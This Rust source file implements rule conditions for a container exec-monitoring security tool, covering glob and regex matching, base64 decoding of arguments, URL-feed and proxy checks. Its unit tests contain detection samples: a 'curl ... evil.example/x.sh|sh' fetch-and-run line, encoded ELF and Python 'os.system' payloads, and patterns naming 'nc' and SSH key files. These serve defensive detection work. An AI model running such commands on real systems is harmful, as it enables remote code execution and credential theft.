//! Rule conditions: the TOML form ([`CondSpec`]), its compiled form ([`Cond`]) and matching.
//!
//! A condition table holds leaves (each a list: the leaf holds when any entry matches) and the
//! combinators `all`, `any` and `not`; every key present in one table must hold. Patterns are
//! globs (`*`, `?`, `[...]`, anchored) unless they start with `re:` (a `regex` crate regular
//! expression, unanchored, linear time).

use std::collections::HashSet;
use std::net::SocketAddr;

use regex::Regex;
use serde::{Deserialize, Serialize};

use super::{FdInfo, FdKind, ProcRef, Subject};

/// A condition as written in a rule file.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CondSpec {
    /// Every sub-condition holds.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub all: Vec<CondSpec>,
    /// At least one sub-condition holds.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub any: Vec<CondSpec>,
    /// The sub-condition does not hold.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub not: Option<Box<CondSpec>>,
    /// An invoked name: the basename of the exec path, of the resolved binary, and for
    /// multi-call binaries (busybox) of `argv[0]` and the applet argument.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub name: Option<Vec<String>>,
    /// The resolved binary path (in the container).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub path: Option<Vec<String>>,
    /// The binary's SHA-256 (hex).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub sha256: Option<Vec<String>>,
    /// `built-in`, `added`, `modified`, `memfd` or `unknown`.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub provenance: Option<Vec<String>>,
    /// One argument (`argv[1..]`) matches.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub arg: Option<Vec<String>>,
    /// The arguments `argv[1..]` joined by single spaces match.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub args: Option<Vec<String>>,
    /// At most this many arguments (`argv[0]` included): `argc_max = 0` is an empty argv.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub argc_max: Option<usize>,
    /// The decoded content of a base64 run (16 characters or more) in an argument matches
    /// (patterns are over bytes; `re:^\x7fELF`).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub arg_base64: Option<Vec<String>>,
    /// An environment variable's name matches.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub env_name: Option<Vec<String>>,
    /// An environment entry `NAME=VALUE` matches.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub env: Option<Vec<String>>,
    /// The parent's invoked name (as recorded when it was exec'd, else its `comm`).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub parent_name: Option<Vec<String>>,
    /// The parent's binary path.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub parent_path: Option<Vec<String>>,
    /// Any ancestor's (parent included) invoked name.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub ancestor_name: Option<Vec<String>>,
    /// Any ancestor's binary path.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub ancestor_path: Option<Vec<String>>,
    /// What fd 0 is.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stdin: Option<Vec<FdKind>>,
    /// What fd 1 is.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stdout: Option<Vec<FdKind>>,
    /// What fd 2 is.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stderr: Option<Vec<FdKind>>,
    /// The container's image (as referred to, or its id).
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub image: Option<Vec<String>>,
    /// A container label: `key` (present) or `key=value-pattern`.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub label: Option<Vec<String>>,
    /// The container's name.
    #[serde(
        default,
        skip_serializing_if = "Option::is_none",
        deserialize_with = "one_or_many"
    )]
    pub container: Option<Vec<String>>,
    /// A URL in the arguments is listed by a URL feed (`[intel] url_feeds`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub url_in_feed: Option<bool>,
    /// An `http_proxy`/`https_proxy`/`ftp_proxy`/`all_proxy` variable (any case) names a proxy
    /// that `[rules] allowed_proxies` does not list.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub proxy_env_disallowed: Option<bool>,
}

/// A string or a list of strings.
fn one_or_many<'de, D: serde::Deserializer<'de>>(d: D) -> Result<Option<Vec<String>>, D::Error> {
    #[derive(Deserialize)]
    #[serde(untagged)]
    enum OneOrMany {
        One(String),
        Many(Vec<String>),
    }
    Ok(Some(match OneOrMany::deserialize(d)? {
        OneOrMany::One(s) => vec![s],
        OneOrMany::Many(v) => v,
    }))
}

/// A glob: `*` (any run), `?` (one byte), `[abc]`, `[a-z]`, `[!abc]`; anchored at both ends.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Glob(Vec<GlobTok>);

#[derive(Debug, Clone, PartialEq, Eq)]
enum GlobTok {
    Byte(u8),
    Any,
    Star,
    Class {
        negated: bool,
        ranges: Vec<(u8, u8)>,
    },
}

impl Glob {
    /// Parses a glob.
    pub fn new(p: &str) -> Result<Glob, String> {
        let b = p.as_bytes();
        let mut toks = Vec::new();
        let mut i = 0;
        while i < b.len() {
            match b[i] {
                b'*' => {
                    if toks.last() != Some(&GlobTok::Star) {
                        toks.push(GlobTok::Star);
                    }
                }
                b'?' => toks.push(GlobTok::Any),
                b'[' => {
                    let mut j = i + 1;
                    let negated = b.get(j) == Some(&b'!');
                    if negated {
                        j += 1;
                    }
                    let mut ranges = Vec::new();
                    let mut first = true;
                    loop {
                        let Some(&c) = b.get(j) else {
                            return Err(format!("unclosed [ in glob {p:?}"));
                        };
                        if c == b']' && !first {
                            break;
                        }
                        first = false;
                        if b.get(j + 1) == Some(&b'-') && b.get(j + 2).is_some_and(|&e| e != b']') {
                            ranges.push((c, b[j + 2]));
                            j += 3;
                        } else {
                            ranges.push((c, c));
                            j += 1;
                        }
                    }
                    toks.push(GlobTok::Class { negated, ranges });
                    i = j;
                }
                c => toks.push(GlobTok::Byte(c)),
            }
            i += 1;
        }
        Ok(Glob(toks))
    }

    fn one(t: &GlobTok, c: u8) -> bool {
        match t {
            GlobTok::Byte(b) => *b == c,
            GlobTok::Any => true,
            GlobTok::Class { negated, ranges } => {
                ranges.iter().any(|(lo, hi)| (*lo..=*hi).contains(&c)) != *negated
            }
            GlobTok::Star => false,
        }
    }

    /// True when the whole of `s` matches. Iterative with one backtrack point (the last `*`):
    /// O(len(s) * len(glob)) at worst, no recursion.
    pub fn is_match(&self, s: &str) -> bool {
        let (t, s) = (&self.0, s.as_bytes());
        let (mut ti, mut si) = (0, 0);
        let mut star: Option<(usize, usize)> = None;
        while si < s.len() {
            if ti < t.len() && t[ti] == GlobTok::Star {
                star = Some((ti, si));
                ti += 1;
            } else if ti < t.len() && Glob::one(&t[ti], s[si]) {
                ti += 1;
                si += 1;
            } else if let Some((st, ss)) = star {
                ti = st + 1;
                si = ss + 1;
                star = Some((st, ss + 1));
            } else {
                return false;
            }
        }
        t[ti..].iter().all(|x| *x == GlobTok::Star)
    }
}

/// A regular expression checked for syntax when the rule is loaded and compiled on first use
/// (compiling every pattern of a ruleset up front costs tens of milliseconds per container
/// start; most execs never need most patterns). `Ruleset::warm` compiles them all, off the
/// exec path.
#[derive(Debug)]
pub struct LazyRegex {
    src: String,
    cell: std::sync::OnceLock<Option<Regex>>,
}

impl Clone for LazyRegex {
    fn clone(&self) -> Self {
        LazyRegex {
            src: self.src.clone(),
            cell: self.cell.clone(),
        }
    }
}

/// Compiled-size bound of one pattern list.
const REGEX_SIZE_LIMIT: usize = 1 << 20;

impl LazyRegex {
    fn new(src: String, check: bool) -> Result<LazyRegex, String> {
        if !check {
            return Ok(LazyRegex {
                src,
                cell: std::sync::OnceLock::new(),
            });
        }
        // Parse and translate (catches syntax errors and invalid classes); the size is bounded
        // by the pattern's length and REGEX_SIZE_LIMIT at compile time.
        regex_syntax::ParserBuilder::new()
            .build()
            .parse(&src)
            .map_err(|e| e.to_string())?;
        Ok(LazyRegex {
            src,
            cell: std::sync::OnceLock::new(),
        })
    }

    /// The compiled regex (`None`: over the size limit, reported once and never matching).
    pub fn get(&self) -> Option<&Regex> {
        self.cell
            .get_or_init(|| {
                match regex::RegexBuilder::new(&self.src)
                    .size_limit(REGEX_SIZE_LIMIT)
                    .build()
                {
                    Ok(r) => Some(r),
                    Err(e) => {
                        tracing::error!(pattern = %self.src, error = %e, "rule pattern cannot be compiled; it never matches");
                        None
                    }
                }
            })
            .as_ref()
    }

    /// Compiles it now; an error says why it cannot be.
    pub fn force(&self) -> Result<(), String> {
        match self.get() {
            Some(_) => Ok(()),
            None => Err(format!("pattern {:?} is too large to compile", self.src)),
        }
    }

    fn is_match(&self, s: &str) -> bool {
        self.get().is_some_and(|r| r.is_match(s))
    }
}

/// A list of patterns: exact strings, globs and `re:` regular expressions (one combined regex).
#[derive(Debug, Clone)]
pub struct Patterns {
    exact: HashSet<String>,
    globs: Vec<Glob>,
    re: Option<LazyRegex>,
}

fn is_glob(p: &str) -> bool {
    p.contains(['*', '?', '['])
}

impl Patterns {
    /// Parses a list of patterns.
    pub fn new(list: &[String]) -> Result<Patterns, String> {
        Patterns::checked(list, true)
    }

    /// Parses a list; `check: false` skips the regex syntax check (the built-in ruleset, whose
    /// patterns a unit test compiles).
    pub fn checked(list: &[String], check: bool) -> Result<Patterns, String> {
        let mut exact = HashSet::new();
        let mut globs = Vec::new();
        let mut res = Vec::new();
        for p in list {
            if let Some(re) = p.strip_prefix("re:") {
                LazyRegex::new(re.to_owned(), check).map_err(|e| format!("pattern {p:?}: {e}"))?;
                res.push(format!("(?:{re})"));
            } else if is_glob(p) {
                globs.push(Glob::new(p)?);
            } else {
                exact.insert(p.clone());
            }
        }
        let re = if res.is_empty() {
            None
        } else {
            Some(
                LazyRegex::new(res.join("|"), check)
                    .map_err(|e| format!("patterns {list:?}: {e}"))?,
            )
        };
        Ok(Patterns { exact, globs, re })
    }

    /// True when `s` matches one of the patterns.
    pub fn is_match(&self, s: &str) -> bool {
        self.exact.contains(s)
            || self.globs.iter().any(|g| g.is_match(s))
            || self.re.as_ref().is_some_and(|r| r.is_match(s))
    }

    /// The exact (non-pattern) entries, for indexing.
    pub fn exact(&self) -> &HashSet<String> {
        &self.exact
    }

    /// True when some entry is a glob or regex.
    pub fn has_patterns(&self) -> bool {
        !self.globs.is_empty() || self.re.is_some()
    }

    /// Compiles the regex now.
    pub fn force(&self) -> Result<(), String> {
        self.re.as_ref().map_or(Ok(()), |r| r.force())
    }
}

/// Byte patterns (for decoded base64 content): `re:` only, compiled with Unicode off.
#[derive(Debug)]
pub struct BytePatterns {
    src: String,
    cell: std::sync::OnceLock<Option<regex::bytes::Regex>>,
}

impl Clone for BytePatterns {
    fn clone(&self) -> Self {
        BytePatterns {
            src: self.src.clone(),
            cell: self.cell.clone(),
        }
    }
}

impl BytePatterns {
    fn new(list: &[String], check: bool) -> Result<BytePatterns, String> {
        let mut parts = Vec::new();
        for p in list {
            let Some(re) = p.strip_prefix("re:") else {
                return Err(format!(
                    "pattern {p:?}: arg_base64 takes regular expressions (re:...)"
                ));
            };
            if check {
                regex_syntax::ParserBuilder::new()
                    .unicode(false)
                    .utf8(false)
                    .build()
                    .parse(re)
                    .map_err(|e| format!("pattern {p:?}: {e}"))?;
            }
            parts.push(format!("(?:{re})"));
        }
        Ok(BytePatterns {
            src: parts.join("|"),
            cell: std::sync::OnceLock::new(),
        })
    }

    fn get(&self) -> Option<&regex::bytes::Regex> {
        self.cell
            .get_or_init(|| {
                regex::bytes::RegexBuilder::new(&self.src)
                    .unicode(false)
                    .size_limit(REGEX_SIZE_LIMIT)
                    .build()
                    .map_err(|e| {
                        tracing::error!(pattern = %self.src, error = %e, "rule pattern cannot be compiled; it never matches");
                    })
                    .ok()
            })
            .as_ref()
    }

    fn is_match(&self, d: &[u8]) -> bool {
        self.get().is_some_and(|r| r.is_match(d))
    }

    /// Compiles it now.
    pub fn force(&self) -> Result<(), String> {
        match self.get() {
            Some(_) => Ok(()),
            None => Err(format!("pattern {:?} is too large to compile", self.src)),
        }
    }
}

#[derive(Debug, Clone)]
pub enum LabelMatch {
    Present(String),
    Value(String, Patterns),
}

/// A compiled condition.
#[derive(Debug, Clone)]
pub enum Cond {
    /// Every one holds (an empty list holds).
    All(Vec<Cond>),
    /// One holds.
    Any(Vec<Cond>),
    /// Negation.
    Not(Box<Cond>),
    /// Invoked name.
    Name(Patterns),
    /// Resolved path.
    Path(Patterns),
    /// SHA-256.
    Sha256(HashSet<[u8; 32]>),
    /// Provenance.
    Provenance(Vec<String>),
    /// One argument.
    Arg(Patterns),
    /// Joined arguments.
    Args(Patterns),
    /// argc bound.
    ArgcMax(usize),
    /// Base64 content.
    ArgBase64(BytePatterns),
    /// Variable name.
    EnvName(Patterns),
    /// `NAME=VALUE`.
    Env(Patterns),
    /// Parent name.
    ParentName(Patterns),
    /// Parent binary.
    ParentPath(Patterns),
    /// Ancestor name.
    AncestorName(Patterns),
    /// Ancestor binary.
    AncestorPath(Patterns),
    /// fd kind.
    Fd(u8, Vec<FdKind>),
    /// Image.
    Image(Patterns),
    /// Label.
    Label(Vec<LabelMatch>),
    /// Container name.
    Container(Patterns),
    /// URL feed.
    UrlInFeed,
    /// Proxy env.
    ProxyEnvDisallowed,
}

const PROVENANCES: [&str; 5] = ["built-in", "added", "modified", "memfd", "unknown"];

impl CondSpec {
    /// Compiles the condition; the error names the key.
    pub fn compile(&self) -> Result<Cond, String> {
        self.compile_checked(true)
    }

    /// [`CondSpec::compile`]; `check: false` skips the regex syntax check.
    pub fn compile_checked(&self, check: bool) -> Result<Cond, String> {
        let mut all = Vec::new();
        let key = |k: &str, e: String| format!("{k}: {e}");
        macro_rules! pats {
            ($field:ident, $variant:ident) => {
                if let Some(l) = &self.$field {
                    all.push(Cond::$variant(
                        Patterns::checked(l, check).map_err(|e| key(stringify!($field), e))?,
                    ));
                }
            };
        }
        pats!(name, Name);
        pats!(path, Path);
        if let Some(l) = &self.sha256 {
            let mut set = HashSet::new();
            for h in l {
                set.insert(
                    crate::feeds::parse_sha256(h)
                        .ok_or_else(|| key("sha256", format!("{h:?} is not a SHA-256 in hex")))?,
                );
            }
            all.push(Cond::Sha256(set));
        }
        if let Some(l) = &self.provenance {
            for p in l {
                if !PROVENANCES.contains(&p.as_str()) {
                    return Err(key(
                        "provenance",
                        format!("{p:?} is not one of {}", PROVENANCES.join(", ")),
                    ));
                }
            }
            all.push(Cond::Provenance(l.clone()));
        }
        pats!(image, Image);
        if let Some(l) = &self.label {
            let mut m = Vec::new();
            for entry in l {
                m.push(match entry.split_once('=') {
                    Some((k, v)) => LabelMatch::Value(
                        k.to_owned(),
                        Patterns::checked(&[v.to_owned()], check).map_err(|e| key("label", e))?,
                    ),
                    None => LabelMatch::Present(entry.clone()),
                });
            }
            all.push(Cond::Label(m));
        }
        pats!(container, Container);
        pats!(arg, Arg);
        pats!(args, Args);
        if let Some(n) = self.argc_max {
            all.push(Cond::ArgcMax(n));
        }
        if let Some(l) = &self.arg_base64 {
            all.push(Cond::ArgBase64(
                BytePatterns::new(l, check).map_err(|e| key("arg_base64", e))?,
            ));
        }
        pats!(env_name, EnvName);
        pats!(env, Env);
        pats!(parent_name, ParentName);
        pats!(parent_path, ParentPath);
        pats!(ancestor_name, AncestorName);
        pats!(ancestor_path, AncestorPath);
        for (fd, l) in [(0u8, &self.stdin), (1, &self.stdout), (2, &self.stderr)] {
            if let Some(l) = l {
                all.push(Cond::Fd(fd, l.clone()));
            }
        }
        match self.url_in_feed {
            Some(true) => all.push(Cond::UrlInFeed),
            Some(false) => all.push(Cond::Not(Box::new(Cond::UrlInFeed))),
            None => {}
        }
        match self.proxy_env_disallowed {
            Some(true) => all.push(Cond::ProxyEnvDisallowed),
            Some(false) => all.push(Cond::Not(Box::new(Cond::ProxyEnvDisallowed))),
            None => {}
        }
        if !self.all.is_empty() {
            all.push(Cond::All(
                self.all
                    .iter()
                    .map(|c| c.compile_checked(check))
                    .collect::<Result<_, _>>()?,
            ));
        }
        if !self.any.is_empty() {
            all.push(Cond::Any(
                self.any
                    .iter()
                    .map(|c| c.compile_checked(check))
                    .collect::<Result<_, _>>()?,
            ));
        }
        if let Some(n) = &self.not {
            all.push(Cond::Not(Box::new(n.compile_checked(check)?)));
        }
        Ok(if all.len() == 1 {
            all.pop().expect("one")
        } else {
            Cond::All(all)
        })
    }
}

/// What a matching rule saw, for its finding.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Captures {
    /// The stdio socket a fd condition matched on (fd, local, peer).
    pub socket: Option<(u8, Option<SocketAddr>, Option<SocketAddr>)>,
    /// URLs a URL feed listed.
    pub urls: Vec<String>,
    /// Proxy variables that are not allowed (`NAME=VALUE`).
    pub proxies: Vec<String>,
}

/// Per-exec evaluation state: the subject plus what was derived from it once.
pub struct Ctx<'a> {
    pub(super) subject: &'a mut dyn Subject,
    pub(super) names: Vec<String>,
    pub(super) settings: &'a super::Settings,
    pub(super) args_line: Option<String>,
    pub(super) decoded: Option<Vec<Vec<u8>>>,
    pub(super) urls: Option<Vec<String>>,
}

/// Base64 runs this long or longer are decoded.
pub const MIN_BASE64_RUN: usize = 16;
/// At most this many bytes of arguments are scanned for base64.
const MAX_BASE64_SCAN: usize = 256 * 1024;

fn base64_runs(arg: &str, out: &mut Vec<Vec<u8>>) {
    use base64::Engine as _;
    use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
    const CFG: GeneralPurposeConfig = GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true);
    const STD: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::STANDARD, CFG);
    const URL: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::URL_SAFE, CFG);
    let b = arg.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let is_b64 = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_');
        if !is_b64(b[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && is_b64(b[i]) {
            i += 1;
        }
        let mut run = &b[start..i];
        while i < b.len() && b[i] == b'=' {
            i += 1;
        }
        if run.len() < MIN_BASE64_RUN {
            continue;
        }
        run = &run[..run.len() - run.len() % 4];
        let url = run.iter().any(|c| matches!(c, b'-' | b'_'));
        let decoded = if url {
            URL.decode(run)
        } else {
            STD.decode(run)
        };
        if let Ok(d) = decoded {
            out.push(d);
        }
    }
}

/// URLs in `s` (scheme http, https or ftp).
fn find_urls(s: &str, out: &mut Vec<String>) {
    static RE: std::sync::OnceLock<Regex> = std::sync::OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(r#"(?i)\b(?:https?|ftp)://[^\s'"<>|;`]+"#).expect("static regex")
    });
    for m in re.find_iter(s) {
        out.push(m.as_str().to_owned());
    }
}

impl Ctx<'_> {
    fn args_line(&mut self) -> &str {
        if self.args_line.is_none() {
            let argv = self.subject.argv();
            self.args_line = Some(argv.get(1..).unwrap_or_default().join(" "));
        }
        self.args_line.as_deref().expect("set above")
    }

    fn decoded(&mut self) -> &[Vec<u8>] {
        if self.decoded.is_none() {
            let mut out = Vec::new();
            let mut budget = MAX_BASE64_SCAN;
            for a in self.subject.argv().iter().skip(1) {
                if budget == 0 {
                    break;
                }
                let a = &a[..floor_char_boundary(a, budget)];
                budget -= a.len();
                base64_runs(a, &mut out);
            }
            self.decoded = Some(out);
        }
        self.decoded.as_deref().expect("set above")
    }

    fn urls(&mut self) -> &[String] {
        if self.urls.is_none() {
            let mut out = Vec::new();
            for a in self.subject.argv().iter().skip(1) {
                find_urls(a, &mut out);
            }
            self.urls = Some(out);
        }
        self.urls.as_deref().expect("set above")
    }
}

fn floor_char_boundary(s: &str, max: usize) -> usize {
    if max >= s.len() {
        return s.len();
    }
    let mut i = max;
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn any_proc(procs: &[ProcRef], f: impl Fn(&ProcRef) -> bool) -> bool {
    procs.iter().any(f)
}

fn fd_matches(info: &FdInfo, kinds: &[FdKind]) -> bool {
    kinds.iter().any(|k| match k {
        FdKind::Socket => matches!(info.kind, FdKind::Socket | FdKind::Unix | FdKind::Inet),
        k => *k == info.kind,
    })
}

fn proxy_allowed(value: &str, allowed: &[String]) -> bool {
    let norm = |s: &str| s.trim().trim_end_matches('/').to_ascii_lowercase();
    let v = norm(value);
    let bare = |s: &str| s.split_once("://").map_or(s, |(_, r)| r).to_owned();
    allowed.iter().any(|a| {
        let a = norm(a);
        a == v || bare(&a) == bare(&v)
    })
}

impl Cond {
    /// Evaluates the condition.
    pub fn eval(&self, cx: &mut Ctx<'_>, cap: &mut Captures) -> bool {
        match self {
            Cond::All(l) => l.iter().all(|c| c.eval(cx, cap)),
            Cond::Any(l) => l.iter().any(|c| c.eval(cx, cap)),
            Cond::Not(c) => !c.eval(cx, &mut Captures::default()),
            Cond::Name(p) => cx.names.iter().any(|n| p.is_match(n)),
            Cond::Path(p) => p.is_match(cx.subject.path()),
            Cond::Sha256(set) => cx.subject.sha256().is_some_and(|h| set.contains(&h)),
            Cond::Provenance(l) => {
                let p = cx.subject.provenance();
                l.iter().any(|x| x == p)
            }
            Cond::Arg(p) => cx.subject.argv().iter().skip(1).any(|a| p.is_match(a)),
            Cond::Args(p) => p.is_match(cx.args_line()),
            Cond::ArgcMax(n) => cx.subject.argv().len() <= *n,
            Cond::ArgBase64(p) => cx.decoded().iter().any(|d| p.is_match(d)),
            Cond::EnvName(p) => cx.subject.env().iter().any(|(k, _)| p.is_match(k)),
            Cond::Env(p) => cx
                .subject
                .env()
                .iter()
                .any(|(k, v)| p.is_match(&format!("{k}={v}"))),
            Cond::ParentName(p) => cx.subject.parent().is_some_and(|a| p.is_match(&a.name)),
            Cond::ParentPath(p) => cx.subject.parent().is_some_and(|a| p.is_match(&a.binary)),
            Cond::AncestorName(p) => any_proc(cx.subject.ancestors(), |a| p.is_match(&a.name)),
            Cond::AncestorPath(p) => any_proc(cx.subject.ancestors(), |a| p.is_match(&a.binary)),
            Cond::Fd(fd, kinds) => {
                let info = cx.subject.stdio(*fd);
                let hit = fd_matches(&info, kinds);
                if hit && info.kind == FdKind::Inet && cap.socket.is_none() {
                    cap.socket = Some((*fd, info.local, info.peer));
                }
                hit
            }
            Cond::Image(p) => {
                let c = cx.subject.container();
                p.is_match(&c.image_uri) || (!c.image_id.is_empty() && p.is_match(&c.image_id))
            }
            Cond::Label(l) => {
                let labels = &cx.subject.container().labels;
                l.iter().any(|m| match m {
                    LabelMatch::Present(k) => labels.contains_key(k),
                    LabelMatch::Value(k, p) => labels.get(k).is_some_and(|v| p.is_match(v)),
                })
            }
            Cond::Container(p) => {
                let c = cx.subject.container();
                p.is_match(&c.name) || p.is_match(&c.id)
            }
            Cond::UrlInFeed => {
                let Some(feed) = cx.settings.urls.clone() else {
                    return false;
                };
                let hits: Vec<String> = cx
                    .urls()
                    .iter()
                    .filter(|u| feed.contains(u))
                    .cloned()
                    .collect();
                let hit = !hits.is_empty();
                cap.urls.extend(hits);
                hit
            }
            Cond::ProxyEnvDisallowed => {
                let allowed = &cx.settings.allowed_proxies;
                let bad: Vec<String> = cx
                    .subject
                    .env()
                    .iter()
                    .filter(|(k, v)| {
                        matches!(
                            k.to_ascii_lowercase().as_str(),
                            "http_proxy" | "https_proxy" | "ftp_proxy" | "all_proxy"
                        ) && !v.trim().is_empty()
                            && !proxy_allowed(v, allowed)
                    })
                    .map(|(k, v)| format!("{k}={v}"))
                    .collect();
                let hit = !bad.is_empty();
                cap.proxies.extend(bad);
                hit
            }
        }
    }

    /// Compiles every regular expression of the condition now.
    pub fn force(&self) -> Result<(), String> {
        match self {
            Cond::All(l) | Cond::Any(l) => l.iter().try_for_each(|c| c.force()),
            Cond::Not(c) => c.force(),
            Cond::Name(p)
            | Cond::Path(p)
            | Cond::Arg(p)
            | Cond::Args(p)
            | Cond::EnvName(p)
            | Cond::Env(p)
            | Cond::ParentName(p)
            | Cond::ParentPath(p)
            | Cond::AncestorName(p)
            | Cond::AncestorPath(p)
            | Cond::Image(p)
            | Cond::Container(p) => p.force(),
            Cond::ArgBase64(p) => p.force(),
            Cond::Label(l) => l.iter().try_for_each(|m| match m {
                LabelMatch::Value(_, p) => p.force(),
                LabelMatch::Present(_) => Ok(()),
            }),
            _ => Ok(()),
        }
    }

    /// What the condition needs to read, to tell which execs need it at all.
    pub fn needs(&self, n: &mut Needs) {
        match self {
            Cond::All(l) | Cond::Any(l) => l.iter().for_each(|c| c.needs(n)),
            Cond::Not(c) => c.needs(n),
            Cond::Arg(_)
            | Cond::Args(_)
            | Cond::ArgcMax(_)
            | Cond::ArgBase64(_)
            | Cond::UrlInFeed => n.argv = true,
            Cond::EnvName(_) | Cond::Env(_) | Cond::ProxyEnvDisallowed => n.env = true,
            Cond::ParentName(_) | Cond::ParentPath(_) => n.parent = true,
            Cond::AncestorName(_) | Cond::AncestorPath(_) => n.ancestors = true,
            Cond::Fd(..) => n.stdio = true,
            _ => {}
        }
        if matches!(self, Cond::UrlInFeed) {
            n.urls = true;
        }
    }

    /// The exact invoked names and hashes that a matching exec must have, when the condition
    /// requires one of them (for indexing); `None` when any exec could match.
    pub fn keys(&self) -> Option<(Vec<String>, bool, Vec<[u8; 32]>)> {
        match self {
            Cond::Name(p) => Some((
                p.exact().iter().cloned().collect(),
                p.has_patterns(),
                Vec::new(),
            )),
            Cond::Sha256(s) => Some((Vec::new(), false, s.iter().copied().collect())),
            Cond::All(l) => l.iter().find_map(|c| c.keys()),
            Cond::Any(l) => {
                let mut names = Vec::new();
                let mut globs = false;
                let mut hashes = Vec::new();
                for c in l {
                    let (n, g, h) = c.keys()?;
                    names.extend(n);
                    globs |= g;
                    hashes.extend(h);
                }
                Some((names, globs, hashes))
            }
            _ => None,
        }
    }

    /// Every name pattern list reachable through `all`/`any` that [`Cond::keys`] used.
    pub fn name_patterns(&self) -> Vec<&Patterns> {
        match self {
            Cond::Name(p) if p.has_patterns() => vec![p],
            Cond::All(l) => l
                .iter()
                .find(|c| c.keys().is_some())
                .map(|c| c.name_patterns())
                .unwrap_or_default(),
            Cond::Any(l) => l.iter().flat_map(|c| c.name_patterns()).collect(),
            _ => Vec::new(),
        }
    }
}

/// What a rule reads beyond the path, name, hash and provenance.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Needs {
    /// argv.
    pub argv: bool,
    /// The environment.
    pub env: bool,
    /// The parent.
    pub parent: bool,
    /// Every ancestor.
    pub ancestors: bool,
    /// fd 0/1/2.
    pub stdio: bool,
    /// A URL feed.
    pub urls: bool,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn globs_and_regexes() {
        let p = Patterns::new(&["nc".into(), "python3*".into(), "re:^ncat$".into()]).unwrap();
        assert!(p.is_match("nc"));
        assert!(p.is_match("python3.11"));
        assert!(p.is_match("ncat"));
        assert!(!p.is_match("ncx"));
        assert!(!p.is_match("xnc"));
        let g = Patterns::new(&["*id_[rd]sa*".into(), "a?c".into(), "[!x]y".into()]).unwrap();
        assert!(g.is_match("/root/.ssh/id_rsa.pub"));
        assert!(g.is_match("abc"));
        assert!(g.is_match("zy"));
        assert!(!g.is_match("xy"));
        assert!(Patterns::new(&["[abc".into()]).is_err());
        let r = Patterns::new(&["[a-c]x*".into(), "*[]]".into()]).unwrap();
        assert!(r.is_match("bx") && r.is_match("cxyz") && r.is_match("a]") && !r.is_match("dx"));
        assert!(Patterns::new(&["*".into()]).unwrap().is_match(""));
        assert!(
            Patterns::new(&["a*b*c".into()])
                .unwrap()
                .is_match("aXbYbZc")
        );
        assert!(!Patterns::new(&["a*b*c".into()]).unwrap().is_match("aXbYbZ"));
        assert!(Patterns::new(&["re:(".into()]).is_err());
        // Dots and other metacharacters in globs are literal.
        let d = Patterns::new(&["*.json".into()]).unwrap();
        assert!(d.is_match("key.json"));
        assert!(!d.is_match("keyxjson"));
    }

    #[test]
    fn base64_runs_decode() {
        let mut out = Vec::new();
        // "\x7fELF\x02\x01\x01" + padding, as in `echo f0VMRgIBAQ... | base64 -d`.
        base64_runs("echo f0VMRgIBAQAAAAAAAAAAAAIAPgAB | base64 -d", &mut out);
        assert_eq!(out.len(), 1);
        assert!(out[0].starts_with(b"\x7fELF"));
        out.clear();
        base64_runs("short abc=", &mut out);
        assert!(out.is_empty());
        // URL-safe alphabet.
        out.clear();
        base64_runs("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk_", &mut out);
        assert_eq!(out.len(), 1);
        assert!(out[0].starts_with(b"import os"));
    }

    #[test]
    fn urls_in_text() {
        let mut out = Vec::new();
        find_urls(
            "curl -s http://evil.example/x.sh|sh; wget 'https://a.b/c?d=1'",
            &mut out,
        );
        assert_eq!(out, vec!["http://evil.example/x.sh", "https://a.b/c?d=1"]);
    }

    #[test]
    fn proxies() {
        let allowed = vec!["http://proxy.corp:3128".to_owned()];
